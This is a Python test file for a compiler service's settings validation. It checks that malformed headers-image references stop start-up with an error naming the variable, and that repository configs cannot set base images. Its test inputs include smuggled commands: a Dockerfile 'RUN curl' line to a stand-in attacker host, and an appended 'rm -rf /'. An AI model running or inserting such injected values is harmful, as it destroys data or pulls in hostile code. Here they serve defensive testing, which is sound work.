"""The compiler's headers images (KILN_PYTHON_HEADERS_IMAGES_<ARCH>) are operator settings: a
malformed reference is refused at start-up naming the variable; a repository cannot set them."""

from __future__ import annotations

import pytest

from services.compiler.settings import CompilerSettings
from shared.config.repository import check_repository_keys
from shared.settings import load_settings


@pytest.mark.parametrize(
    "value",
    [
        "127.0.0.1:5000/kiln/python-headers:trixie-arm64\nRUN curl http://evil.example",
        "registry.example/headers:3.13@sha256:short",
        "registry.example/headers:3.13;rm -rf /",
        "http://registry.example/headers:3.13",
    ],
)
def test_a_malformed_headers_image_stops_the_compiler_naming_the_variable(monkeypatch, capsys, value):
    monkeypatch.setenv("KILN_PYTHON_HEADERS_IMAGES_ARM64", value)
    with pytest.raises(SystemExit) as stopped:
        load_settings(CompilerSettings)
    assert stopped.value.code == 2
    assert "KILN_PYTHON_HEADERS_IMAGES_ARM64: Value error, image reference" in capsys.readouterr().err


def test_several_headers_images_per_platform_are_accepted():
    settings = CompilerSettings(
        python_headers_images_amd64="r:5000/kiln/python-headers:trixie-amd64, r:5000/h:forky-amd64",
        python_headers_images_arm64="",
    )
    assert "forky" in settings.python_headers_images_amd64 and settings.python_headers_images_arm64 == ""


def test_a_repository_config_cannot_name_the_base_image_its_python_is_read_from():
    pushed = {"packages": {"demo": {"deployment": {"base_images": {"linux/arm64": "python:3.14-slim"}}}}}
    ((path, message),) = check_repository_keys(pushed)
    assert path == ("packages", "demo", "deployment") and "operator only" in message
